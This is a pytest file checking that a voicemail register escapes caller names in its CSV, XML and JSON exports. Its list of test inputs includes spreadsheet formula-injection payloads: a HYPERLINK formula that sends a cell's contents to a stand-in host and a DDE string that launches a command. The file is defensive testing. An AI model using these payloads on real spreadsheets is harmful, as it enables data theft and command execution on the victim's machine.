"""Hostile values in the register's exports (issue 15, item 10): a caller name is whatever the
telephone network delivered, so no CSV cell is a formula and the ERMS XML stays well-formed.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voicemail import exports
from voicemail.models import PublicRecord, RecordStatus

TZ = ZoneInfo("Europe/Stockholm")
ARRIVED = datetime(2026, 11, 23, 16, 4, 10, tzinfo=UTC)
ERMS = {"e": exports.ERMS_NS}


def record(caller_name: str | None, caller_number: str | None = "+46701234567") -> PublicRecord:
    """A record whose caller id came from the network as given."""
    return PublicRecord(
        id=1,
        registration_number="ALV-RÖST-2026-000001",
        intake_key="default/83012/1795449850-00000000",
        msg_id="1795449850-00000000",
        arrived_at=ARRIVED,
        registered_at=ARRIVED,
        context="default",
        mailbox="83012",
        owner_id="anna.andersson",
        caller_raw=f'"{caller_name}" <{caller_number}>',
        caller_number=caller_number,
        caller_name=caller_name,
        duration_s=9,
        sha256="0" * 64,
        audio_bytes=144_364,
        audio_format="wav",
        status=RecordStatus.AWAITING_CLASSIFICATION,
        summary=None,
    )


def csv_row(r: PublicRecord) -> dict[str, str]:
    """The one data row of the CSV export."""
    [row] = list(csv.DictReader(io.StringIO(exports.to_csv([r], TZ))))
    return row


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ring tillbaka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_caller_name_is_never_a_formula(name: str) -> None:
    """Issue 15 item 10: a caller name `=HYPERLINK(…)` (or starting + - @, tab, CR) comes out
    as text: a leading `'`, the rest exactly as received."""
    cell = csv_row(record(name))["caller_name"]
    assert cell == "'" + name


def test_csv_phone_number_cell_is_text_not_a_formula() -> None:
    """Issue 15 item 10: `+46…` starts with `+` too, so it is written `'+46…` (a spreadsheet
    shows +46701234567 as text instead of computing 46701234567)."""
    row = csv_row(record("Örjan Öst"))
    assert row["caller_number"] == "'+46701234567"
    assert row["caller_name"] == "Örjan Öst" and row["duration_s"] == "9"


@pytest.mark.parametrize("char", ["\x0b", "\x00", "\x1f", "\ufffe", "\ud800"])
def test_erms_xml_stays_well_formed(char: str) -> None:
    """Issue 15 item 10: a caller name with `\\x0b` (or NUL, another C0 control, U+FFFE, a
    lone surrogate) is replaced by U+FFFD: the ERMS XML parses, the rest of the name is kept."""
    xml = exports.to_xml([record(f"Anna{char}Svensson")], TZ, "Älvkarleby kommun", "ALV")
    root = ET.fromstring(xml.encode("utf-8"))
    name = root.findtext("e:records/e:record/e:agents/e:agent/e:name", namespaces=ERMS)
    assert name == "Anna\ufffdSvensson"


def test_json_export_with_lone_surrogate_encodes() -> None:
    """A lone surrogate in a text (it cannot be written as UTF-8) becomes U+FFFD in JSON."""
    text = exports.to_json([record("Anna\ud800")], TZ)
    assert json.loads(text.encode("utf-8"))[0]["caller_name"] == "Anna\ufffd"


_FUZZ = settings(max_examples=200, deadline=2000, derandomize=True, database=None)


@_FUZZ
@given(st.text(max_size=60), st.one_of(st.none(), st.text(max_size=20)))
def test_fuzz_exports_hold_for_any_caller(name: str, number: str | None) -> None:
    """Any caller name and number: the XML parses, the CSV round-trips to the same cells
    (less the `'` of formula-looking ones) and no cell starts a formula."""
    r = record(name, number)
    ET.fromstring(exports.to_xml([r], TZ, "Älvkarleby kommun", "ALV").encode("utf-8"))
    row = csv_row(r)
    for cell in (row["caller_name"], row["caller_number"]):
        assert not cell.startswith(exports.FORMULA_START)
    assert row["caller_name"].removeprefix("'") in (name, name.replace("\r\n", "\n"), *_fixed(name))


def _fixed(name: str) -> tuple[str, ...]:
    """What the CSV round trip may legitimately make of a name (surrogates, bare CR)."""
    cleaned = exports.csv_cell(name)
    assert isinstance(cleaned, str)
    return (cleaned.removeprefix("'"), cleaned.removeprefix("'").replace("\r", "\n"))
